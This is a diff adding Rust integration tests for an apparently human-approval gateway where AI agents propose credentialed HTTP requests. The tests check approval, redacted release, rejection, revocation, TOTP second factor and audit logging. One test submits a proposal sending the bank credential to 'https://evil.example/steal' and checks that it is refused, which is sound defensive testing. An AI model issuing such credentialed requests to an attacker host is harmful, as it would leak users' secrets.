@@ -369,3 +369,338 @@ async fn kill_9_during_an_execution_is_outcome_unknown_and_never_retried() {
     assert_eq!(requests.load(Ordering::SeqCst), 1);
     assert!(audit.verify(None).await.unwrap().intact());
 }
+
+/// A local HTTP server answering every request with `body`, counting requests.
+fn json_server(body: &'static str) -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    use std::io::{Read as _, Write as _};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = std::sync::Arc::clone(&count);
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            let mut stream = stream;
+            let mut buffer = [0u8; 8192];
+            let _ = stream.read(&mut buffer);
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            let response = format!(
+                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+            let _ = stream.write_all(response.as_bytes());
+        }
+    });
+    (port, count)
+}
+
+async fn loop_setup(
+    second_factor: bool,
+) -> (
+    tempfile::TempDir,
+    DataHome,
+    Audit,
+    countersign_app::Lifecycle,
+    countersign_app::Executions,
+    u16,
+    std::sync::Arc<std::sync::atomic::AtomicUsize>,
+) {
+    let (dir, home) = home();
+    let (port, count) =
+        json_server(r#"{"balance":1200,"account":"4410","owner":{"ssn":"123-45-6789"}}"#);
+    let audit = Audit::open(&home, Actor::person("alice")).await.unwrap();
+    let credentials = countersign_app::Credentials::open(&home).await.unwrap();
+    let meta = countersign_core::credential::CredentialMeta {
+        name: "bank".into(),
+        description: "Test bank".into(),
+        kind: countersign_core::credential::CredentialKind::Http {
+            auth: countersign_core::credential::HttpAuth::Bearer,
+            scope: countersign_core::credential::HttpScope {
+                origins: vec![format!("http://127.0.0.1:{port}")],
+                methods: vec![],
+                path_prefixes: vec![],
+            },
+        },
+        requires_second_factor: second_factor,
+    };
+    credentials
+        .add(
+            &audit,
+            &meta,
+            &countersign_vault::Secret::new("bank-token-secret-0001".into()),
+        )
+        .await
+        .expect("a keychain must be running");
+    let lifecycle = countersign_app::Lifecycle::open(&home).await.unwrap();
+    let executions = countersign_app::Executions::open(
+        &home,
+        countersign_exec::HttpExecutor::new(),
+        countersign_exec::SqlExecutor::new(),
+        countersign_exec::EmailExecutor::new(),
+    )
+    .await
+    .unwrap();
+    (dir, home, audit, lifecycle, executions, port, count)
+}
+
+fn balance_proposal(port: u16) -> String {
+    format!(
+        r#"{{"summary":"Check the balance","purpose":"monthly budget","artifact":{{"kind":"http","credential":"bank","method":"GET","url":"http://127.0.0.1:{port}/v1/balance"}}}}"#
+    )
+}
+
+#[tokio::test]
+async fn the_whole_loop_propose_approve_execute_release() {
+    let (_dir, home, audit, lifecycle, executions, port, count) = loop_setup(false).await;
+    let key = lifecycle.add_agent(&audit, "claude").await.unwrap();
+    assert_eq!(
+        lifecycle
+            .authenticate(key.expose())
+            .await
+            .unwrap()
+            .as_deref(),
+        Some("claude")
+    );
+    assert_eq!(lifecycle.authenticate("csa_wrong").await.unwrap(), None);
+
+    let record = lifecycle
+        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(record.status, "pending");
+    assert_eq!(lifecycle.pending().await.unwrap().len(), 1);
+    assert_eq!(
+        count.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "nothing runs before approval"
+    );
+
+    // A long-poll wakes when the status changes.
+    let waiter = {
+        let id = record.id.clone();
+        let lifecycle = &lifecycle;
+        async move {
+            lifecycle
+                .wait_for_agent("claude", &id, std::time::Duration::from_secs(10))
+                .await
+                .unwrap()
+                .unwrap()
+        }
+    };
+    let approve = async {
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        lifecycle.view(&audit, &record.id).await.unwrap();
+        lifecycle
+            .approve(&home, &audit, &executions, &record.id, None)
+            .await
+            .unwrap()
+    };
+    let (woken, approved) = tokio::join!(waiter, approve);
+    assert_ne!(woken.status, "pending");
+    assert_eq!(approved.status, "succeeded");
+    assert_eq!(approved.result.as_ref().unwrap()["body"]["balance"], 1200);
+    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
+    // Before release, the agent sees the status and nothing of the result.
+    assert_eq!(
+        lifecycle
+            .get_for_agent("claude", &record.id)
+            .await
+            .unwrap()
+            .unwrap()
+            .agent_view()["result"],
+        serde_json::Value::Null
+    );
+    assert!(
+        lifecycle
+            .get_for_agent("other-agent", &record.id)
+            .await
+            .unwrap()
+            .is_none()
+    );
+
+    let released = lifecycle
+        .release(
+            &audit,
+            &record.id,
+            &countersign_app::Release::Fields(vec!["body.balance".into()]),
+        )
+        .await
+        .unwrap();
+    let view = released.agent_view();
+    assert_eq!(view["result"]["released"], true);
+    assert_eq!(
+        view["result"]["data"],
+        serde_json::json!({ "body": { "balance": 1200 } })
+    );
+    assert!(!view.to_string().contains("123-45-6789"));
+    assert!(
+        view["result"]["withheld"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|w| w == "body.owner.ssn")
+    );
+
+    // A second approval of the same proposal is refused: it is no longer pending.
+    assert!(
+        lifecycle
+            .approve(&home, &audit, &executions, &record.id, None)
+            .await
+            .is_err()
+    );
+    let events: Vec<String> = serde_json::from_str::<Vec<serde_json::Value>>(
+        &audit
+            .export(
+                ExportFormat::Json,
+                &Filter {
+                    proposal: Some(record.id.clone()),
+                    ..Filter::default()
+                },
+            )
+            .await
+            .unwrap(),
+    )
+    .unwrap()
+    .iter()
+    .map(|e| e["event"].as_str().unwrap().to_owned())
+    .collect();
+    assert_eq!(
+        events,
+        [
+            "proposal.received",
+            "proposal.viewed",
+            "decision.approved",
+            "grant.consumed",
+            "execution.started",
+            "execution.succeeded",
+            "result.released"
+        ]
+    );
+    assert!(audit.verify(None).await.unwrap().intact());
+}
+
+#[tokio::test]
+async fn reject_withdraw_refuse_and_revoke() {
+    let (_dir, home, audit, lifecycle, _executions, port, count) = loop_setup(false).await;
+    lifecycle.add_agent(&audit, "claude").await.unwrap();
+    let a = lifecycle
+        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .await
+        .unwrap()
+        .unwrap();
+    let rejected = lifecycle
+        .reject(&audit, &a.id, "not this month")
+        .await
+        .unwrap();
+    assert_eq!(
+        rejected.agent_view()["decision"]["reason"],
+        "not this month"
+    );
+    let b = lifecycle
+        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(
+        lifecycle
+            .withdraw(&audit, "someone-else", &b.id)
+            .await
+            .is_err()
+    );
+    assert_eq!(
+        lifecycle
+            .withdraw(&audit, "claude", &b.id)
+            .await
+            .unwrap()
+            .status,
+        "withdrawn"
+    );
+    let off_scope = r#"{"summary":"x","purpose":"y","artifact":{"kind":"http","credential":"bank","method":"GET","url":"https://evil.example/steal"}}"#;
+    let refusal = lifecycle
+        .submit(&home, &audit, "claude", off_scope)
+        .await
+        .unwrap()
+        .unwrap_err();
+    assert_eq!(
+        refusal.code,
+        countersign_core::RefusalCode::CredentialScopeViolation
+    );
+    let csv = audit
+        .export(ExportFormat::Csv, &Filter::default())
+        .await
+        .unwrap();
+    assert!(
+        csv.contains("proposal.refused")
+            && csv.contains("credential.scope_violation")
+            && csv.contains("decision.rejected")
+            && csv.contains("proposal.withdrawn")
+    );
+    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 0);
+
+    let key = lifecycle.add_agent(&audit, "cursor").await.unwrap();
+    lifecycle.revoke_agent(&audit, "cursor").await.unwrap();
+    assert_eq!(
+        lifecycle.authenticate(key.expose()).await.unwrap(),
+        None,
+        "revocation takes effect at once"
+    );
+    assert!(
+        lifecycle
+            .agents()
+            .await
+            .unwrap()
+            .iter()
+            .any(|a| a.name == "cursor" && a.revoked_at.is_some())
+    );
+}
+
+#[tokio::test]
+async fn a_second_factor_is_required_when_the_credential_says_so() {
+    let (_dir, home, audit, lifecycle, executions, port, count) = loop_setup(true).await;
+    lifecycle.add_agent(&audit, "claude").await.unwrap();
+    let record = lifecycle
+        .submit(&home, &audit, "claude", &balance_proposal(port))
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(record.explanation.requires_second_factor);
+    let error = lifecycle
+        .approve(&home, &audit, &executions, &record.id, Some("123456"))
+        .await
+        .unwrap_err();
+    assert!(error.to_string().contains("none is set up"), "{error}");
+    let secret = countersign_app::totp::new_secret();
+    home.keychain()
+        .store(
+            countersign_app::totp::KEYCHAIN_ENTRY,
+            &countersign_vault::Secret::new(secret.clone()),
+        )
+        .unwrap();
+    let wrong = lifecycle
+        .approve(&home, &audit, &executions, &record.id, Some("000000"))
+        .await;
+    assert!(wrong.unwrap_err().to_string().contains("not right"));
+    let now = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs();
+    let code = countersign_app::totp::code(&countersign_app::totp::decode(&secret).unwrap(), now);
+    assert_eq!(
+        lifecycle
+            .approve(&home, &audit, &executions, &record.id, Some(&code))
+            .await
+            .unwrap()
+            .status,
+        "succeeded"
+    );
+    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
+    let csv = audit
+        .export(ExportFormat::Csv, &Filter::default())
+        .await
+        .unwrap();
+    assert!(
+        csv.contains("second_factor.failed")
+            && csv.contains("second_factor.succeeded")
+            && csv.contains(r#"auth_method"":""totp"#)
+    );
+}
